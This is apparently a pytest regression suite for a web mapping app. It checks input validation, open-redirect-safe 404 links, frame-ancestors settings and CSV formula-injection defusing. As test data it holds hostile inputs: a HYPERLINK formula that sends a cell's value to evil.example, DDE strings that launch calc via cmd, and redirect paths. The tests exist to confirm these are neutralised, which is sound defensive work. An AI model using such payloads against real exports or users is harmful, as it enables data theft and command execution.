"""Regression tests for issue 11's input findings: no 500 from any input (4), empty data (7), the 404
page's language links (9), framing settings that fail closed (5) and CSV formula injection (6)."""
from __future__ import annotations

import csv
import io
import os
import shutil
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from conftest import GEODATA
from geomap import ConfigError
from geomap.options import OptionsError, ascii_int, parse
from geomap.web import create_app

UNICODE_DIGITS = ("²", "①", "١٢٣", "２０１９", "໒໐໑໙", "2019²", "𝟚𝟘𝟙𝟡")


class Links(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.hrefs: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.hrefs.append(dict(attrs).get("href") or "")


# -- numbers are ASCII digits -----------------------------------------------------------------------

@pytest.mark.parametrize("text", UNICODE_DIGITS)
def test_ascii_int_refuses_other_digits(text):
    assert ascii_int(text) is None
    for name in ("year_from", "year_to", "height"):
        with pytest.raises(OptionsError, match=name):
            parse({name: text})


def test_ascii_int_reads_ascii_digits():
    assert ascii_int("2019") == 2019 and ascii_int("0480") == 480
    assert ascii_int("") is None and ascii_int("-1") is None and ascii_int(" 1") is None


@pytest.mark.parametrize("url", [
    "/?year_from=%C2%B2", "/?year_to=%E2%91%A0", "/embed?height=%E2%91%A0", "/embed?height=%E2%91%A0px",
    "/api/agreements.geojson?year_from=%EF%BC%92%EF%BC%90%EF%BC%91%EF%BC%99",
    "/export/agreements.csv?year_to=%D9%A1%D9%A2", "/embed/code?height=%C2%B2",
    "/oembed?url=http%3A%2F%2Flocalhost%2F&maxwidth=%C2%B2",
    "/oembed?url=http%3A%2F%2Flocalhost%2F&maxheight=%E2%91%A0",
    "/oembed?url=http%3A%2F%2Flocalhost%2Fembed%3Fheight%3D%25E2%2591%25A0",
    "/api/map.json?year_from=%C2%B2", "/api/map/shaoxing.json?year_to=%C2%B2",
    "/ogc/collections/agreements/items?limit=%C2%B2", "/ogc/collections/agreements/items?offset=%E2%91%A0",
    "/ogc/collections/agreements/items?bbox=%EF%BC%91,2,3,4",
])
def test_unicode_digits_in_a_query_are_a_400_with_a_message(client, url):
    resp = client.get(url)
    assert resp.status_code == 400, resp.get_data(as_text=True)[:300]
    assert "Traceback" not in resp.get_data(as_text=True)


def test_cli_refuses_unicode_digits_in_one_line(tmp_path):
    from click.testing import CliRunner

    from geomap.cli import main

    result = CliRunner().invoke(main, ["export", "--layer", "partners", "--year-from", "²"])
    assert result.exit_code == 2 and "year_from" in result.output and "Traceback" not in result.output


# -- a filtered partner page with nothing left says so -------------------------------------------------

@pytest.mark.parametrize("lang,words", [("en", "No agreement with this partner matches these filters."),
                                        ("zh", "该合作地没有符合这些筛选条件的协议。")])
def test_a_filtered_partner_page_with_no_match_says_so(client, lang, words):
    resp = client.get(f"/partners/shaoxing?type=forum&lang={lang}")
    text = resp.get_data(as_text=True)
    assert resp.status_code == 200 and words in text
    assert f'href="/partners/shaoxing?lang={lang}"' in text  # the way back to all of them
    assert client.get(f"/partners/shaoxing?year_from=2099&lang={lang}").status_code == 200


# -- empty data ------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def empty_app(tmp_path_factory):
    """A valid data directory with no agreement and no place at all."""
    data = tmp_path_factory.mktemp("empty") / "geodata"
    shutil.copytree(GEODATA, data)
    (data / "agreements.yaml").write_text("[]\n", encoding="utf-8")
    header = (GEODATA / "places.csv").read_text(encoding="utf-8").splitlines()[0]
    (data / "places.csv").write_text(header + "\n", encoding="utf-8")
    return create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(data)})


@pytest.mark.parametrize("url,words", [
    ("/?lang=en", "There are no agreements in the data yet."),
    ("/?lang=zh", "数据中尚无合作协议。"),
    ("/embed?lang=en", "There are no agreements in the data yet."),
    ("/embed?lang=zh&height=300", "数据中尚无合作协议。"),
])
def test_empty_data_gives_an_empty_map_with_a_message(empty_app, url, words):
    resp = empty_app.test_client().get(url)
    text = resp.get_data(as_text=True)
    assert resp.status_code == 200 and words in text
    assert 'class="folium-map"' in text  # the map is there, empty


@pytest.mark.parametrize("url", ["/api/partners.geojson", "/api/agreements.geojson", "/api/links.geojson",
                                 "/api/map.json?lang=en", "/export/agreements.csv", "/export/links.gpkg",
                                 "/export/partners.kml", "/embed/code", "/healthz",
                                 "/oembed?url=http%3A%2F%2Flocalhost%2Fembed&format=json"])
def test_empty_data_answers_every_data_route(empty_app, url):
    resp = empty_app.test_client().get(url)
    assert resp.status_code == 200
    if url.endswith(".geojson"):
        assert resp.get_json() == {"type": "FeatureCollection", "features": []}


# -- the 404 page's language links stay on the site --------------------------------------------------------

@pytest.mark.parametrize("path", ["/%5Cevil.example", "/%2F%2Fevil.example", "/%5C%5Cevil.example/x",
                                  "/%09/evil.example", "/%5C/evil.example?a=1"])
def test_404_language_links_never_leave_the_site(client, path):
    check_links_stay(client.get(path))


@pytest.mark.parametrize("path_info", ["//evil.example", "///evil.example", "/\\evil.example", "/\t//evil.example"])
def test_404_language_links_never_leave_the_site_whatever_the_server_passes(client, path_info):
    check_links_stay(client.get("/", environ_overrides={"PATH_INFO": path_info}))


def check_links_stay(resp):
    assert resp.status_code == 404
    for href in Links(resp.get_data(as_text=True)).hrefs:
        parts = urlsplit(href)
        assert not parts.scheme and not parts.netloc, href
        assert href.startswith("/") and not href.startswith(("//", "/\\")) and "\\" not in href, href


def test_404_language_links_keep_the_path_and_query(client):
    hrefs = Links(client.get("/no/such/页面?x=1&lang=en").get_data(as_text=True)).hrefs
    assert "/no/such/%E9%A1%B5%E9%9D%A2?x=1&lang=zh" in hrefs


# -- framing settings fail closed ---------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["self", "'self'", "SELF", "none", "'none'", "self,", " 'self' "])
def test_frame_ancestors_self_or_none_allow_only_this_site(value):
    app = create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(GEODATA), "GEOMAP_FRAME_ANCESTORS": value})
    client = app.test_client()
    for url in ("/embed", "/embed?partner=nowhere", "/assets/leaflet/leaflet.js"):
        policy = client.get(url).headers.get("Content-Security-Policy", "")
        assert "frame-ancestors 'self'" in policy, (value, url, policy)
        assert not any(p.strip().startswith("frame-ancestors") and p.strip() != "frame-ancestors 'self'"
                       for p in policy.split(";"))
    text = client.get("/embed/code?ui=en").get_data(as_text=True)
    assert "This map may be shown only on this site." in text and "Any web site may show" not in text


@pytest.mark.parametrize("value", ["'none' https://a.example", "none, self, https://a.example", "selfish",
                                   "'unsafe-inline'", "*, https://a.example", "https://a.example:²"])
def test_frame_ancestors_it_cannot_read_stop_start_up(value):
    with pytest.raises(ConfigError, match="GEOMAP_FRAME_ANCESTORS"):
        create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(GEODATA), "GEOMAP_FRAME_ANCESTORS": value})


# -- CSV formula injection ----------------------------------------------------------------------------

@pytest.mark.parametrize("cell,expected", [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-12", "-12"), ("-0.5", "-0.5"), ("-1e3", "-1e3"), ("-", "'-"), ("-abc", "'-abc"),
    ("ok = fine", "ok = fine"), ("", ""), (None, None), (12, 12),
])
def test_csv_cells_that_start_a_formula_are_defused(cell, expected):
    from geomap.layers import defuse_cell

    assert defuse_cell(cell) == expected


def test_hostile_text_leaves_the_csv_export_as_text(data_copy):
    import yaml

    path = data_copy / "agreements.yaml"
    agreements = yaml.safe_load(path.read_text(encoding="utf-8"))
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    agreements[0]["title_en"] = hostile
    agreements[0]["summary_en"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    agreements[1]["title_en"] = "+1+cmd|' /C calc'!A0"
    agreements[1]["parties"][0]["name"] = "-2+3+cmd|' /C calc'!A0"
    path.write_text(yaml.safe_dump(agreements, allow_unicode=True, sort_keys=False), encoding="utf-8")
    app = create_app({"TESTING": True, "GEOMAP_DATA_DIR": str(data_copy)})
    client = app.test_client()
    for layer in ("agreements", "links"):
        body = client.get(f"/export/{layer}.csv").get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body)))
        cells = [c for row in rows for c in row]
        assert "'" + hostile in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], layer
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "", 1).isdigit()]
    # Negative numbers stay numbers: a longitude west of Greenwich would be one.
    from geomap.layers import defuse_cell
    assert defuse_cell("-122.4194") == "-122.4194"


# -- a killed export leaves nothing the next run does not clean up ------------------------------------------

KILL_DURING = {
    # SIGKILL once the bytes are on disk, before the rename: a .part file stays.
    "part": "os.fsync = lambda fd: os.kill(os.getpid(), signal.SIGKILL)",
    # SIGKILL while GDAL writes its file: the work folder stays.
    "gdal": ("import pyogrio; real = pyogrio.write_dataframe\n"
             "def dying(*a, **k):\n    real(*a, **k); os.kill(os.getpid(), signal.SIGKILL)\n"
             "pyogrio.write_dataframe = dying"),
    # SIGTERM while GDAL writes: the command unwinds and removes its files itself.
    "term": ("import pyogrio; real = pyogrio.write_dataframe\n"
             "def ending(*a, **k):\n    real(*a, **k); os.kill(os.getpid(), signal.SIGTERM); time.sleep(30)\n"
             "pyogrio.write_dataframe = ending"),
}


def export_with(tmp_path, out, how: str | None):
    import subprocess
    import sys

    from conftest import REPO

    prelude = KILL_DURING.get(how, "")
    code = ("import os, signal, sys, time\n" + prelude +
            f"\nfrom geomap.cli import main\nmain(['export', '--layer', 'links', '--format', 'gpkg', "
            f"'--output', {str(out)!r}])")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GEOMAP_")}
    env.update(PYTHONPATH=str(REPO), GEOMAP_DATA_DIR=str(GEODATA), TMPDIR=str(tmp_path / "tmp"))
    return subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=300)


def leftovers(tmp_path, out) -> list[str]:
    return sorted([p.name for p in out.parent.iterdir() if p.name.endswith(".part")] +
                  [p.name for p in (tmp_path / "tmp").iterdir()])


def test_a_killed_export_leaves_nothing_the_next_run_does_not_clean_up(tmp_path):
    (tmp_path / "tmp").mkdir()
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "links.gpkg"
    for how in ("part", "gdal"):
        result = export_with(tmp_path, out, how)
        assert result.returncode == -9, result.stderr
    stale = leftovers(tmp_path, out)
    assert any(n.endswith(".part") for n in stale) and any(n.startswith("geomap-") for n in stale), stale
    # A file of a writer still running is left alone.
    alive = out_dir / f".links.gpkg.{os.getppid()}.keep.part"
    alive.write_bytes(b"")
    result = export_with(tmp_path, out, None)
    assert result.returncode == 0, result.stderr
    assert leftovers(tmp_path, out) == [alive.name]
    assert out.read_bytes()[:15] == b"SQLite format 3"


def test_a_terminated_export_removes_its_files_on_the_way_out(tmp_path):
    (tmp_path / "tmp").mkdir()
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "links.gpkg"
    result = export_with(tmp_path, out, "term")
    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr
    assert leftovers(tmp_path, out) == [] and not out.exists()
